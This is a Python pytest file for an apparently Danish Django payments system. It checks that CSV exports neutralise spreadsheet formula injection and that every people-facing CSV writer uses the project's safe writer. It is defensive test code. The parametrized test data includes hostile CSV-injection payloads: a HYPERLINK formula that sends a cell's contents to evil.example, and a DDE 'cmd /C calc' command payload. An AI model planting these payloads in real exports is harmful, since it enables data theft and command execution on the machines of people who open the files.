"""CSV (formula) injection: every CSV the system produces for people opens in a spreadsheet as
data, never as a formula (nemkonto.csv_safe)."""

import csv
import datetime
import io
import json
import re
import subprocess
from pathlib import Path

import pytest
from django.utils import timezone

from accounts.tests.factories import EmployeeFactory, grant
from nemkonto.csv_safe import csv_lines, safe_cell
from payments.tests.pipeline_world import CPR_WITHOUT_ACCOUNT
from tests.hostile.conftest import Hostile

BASE_DIR = Path(__file__).resolve().parents[2]
# Files for programs, not people: register extracts (read back by import_register).
MACHINE_CSV_MODULES = {"registry/synthetic_register.py", "registry/demo.py"}


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ('=HYPERLINK("https://evil.example/?"&A1)', '\'=HYPERLINK("https://evil.example/?"&A1)'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Børnecheck", "Børnecheck"),
        ("a=b", "a=b"),
        ("", ""),
        (-5, -5),
        (None, None),
        (True, True),
        (datetime.date(2026, 12, 1), datetime.date(2026, 12, 1)),
    ],
)
def test_a_cell_that_could_start_a_formula_gets_an_apostrophe(value, expected):
    assert safe_cell(value) == expected


def test_csv_lines_make_header_and_every_text_cell_safe():
    text = "".join(csv_lines(["=name", "amount"], [["=1+1", -12], ["@x", 3], ["ok", 0]]))

    assert list(csv.reader(io.StringIO(text))) == [
        ["'=name", "amount"],
        ["'=1+1", "-12"],
        ["'@x", "3"],
        ["ok", "0"],
    ]


def test_the_control_list_export_is_safe_in_a_spreadsheet(hostile: Hostile) -> None:
    """A caseworker whose user name a spreadsheet would run (``-2+3`` is a valid user name)
    registers a specific account; the control list shows the name as text."""
    world = hostile.world
    evil = EmployeeFactory.create(username="-2+3", authority=world.authority)
    grant(evil, "nks-opdater-speckonto", world.root)
    caseworker = hostile.as_user("caseworker")
    caseworker.force_login(evil)
    created = caseworker.post(
        "/api/v1/caseworker/specific-accounts",
        json.dumps(
            {
                "recipient": {"type": "CPR", "id": CPR_WITHOUT_ACCOUNT},
                "benefit": "BOERNECHECK",
                "account": {"reg": "3000", "number": "1234"},
            }
        ),
        content_type="application/json",
    )
    assert created.status_code == 201, created.content[:300]
    today = timezone.localdate().isoformat()

    response = hostile.as_user("local_admin").get(
        f"/api/v1/authorities/kbh/control-list.csv?from={today}&to={today}"
    )

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    text = response.getvalue().decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert "'-2+3" in [row["by"] for row in rows]
    assert all(not value.startswith(("=", "+", "-", "@")) for row in rows for value in row.values())


def _python_files() -> list[str]:
    listed = subprocess.run(
        ["git", "ls-files", "--cached", "--others", "--exclude-standard", "*.py"],
        cwd=BASE_DIR,
        capture_output=True,
        text=True,
        check=True,
    ).stdout.split()
    return [name for name in listed if "/tests/" not in f"/{name}" and (BASE_DIR / name).exists()]


def test_every_csv_for_people_goes_through_the_safe_writer():
    """A module that writes CSV (the csv module's writers, or a text/csv response) must use
    ``nemkonto.csv_safe`` unless programs, not people, read its files (MACHINE_CSV_MODULES)."""
    writes_csv = re.compile(r"csv\.(writer|DictWriter)\(|content_type=[\"']text/csv")
    offenders = [
        name
        for name in _python_files()
        if name not in MACHINE_CSV_MODULES
        and name != "nemkonto/csv_safe.py"
        and writes_csv.search(source := (BASE_DIR / name).read_text())
        and "nemkonto.csv_safe import" not in source
    ]
    assert offenders == []
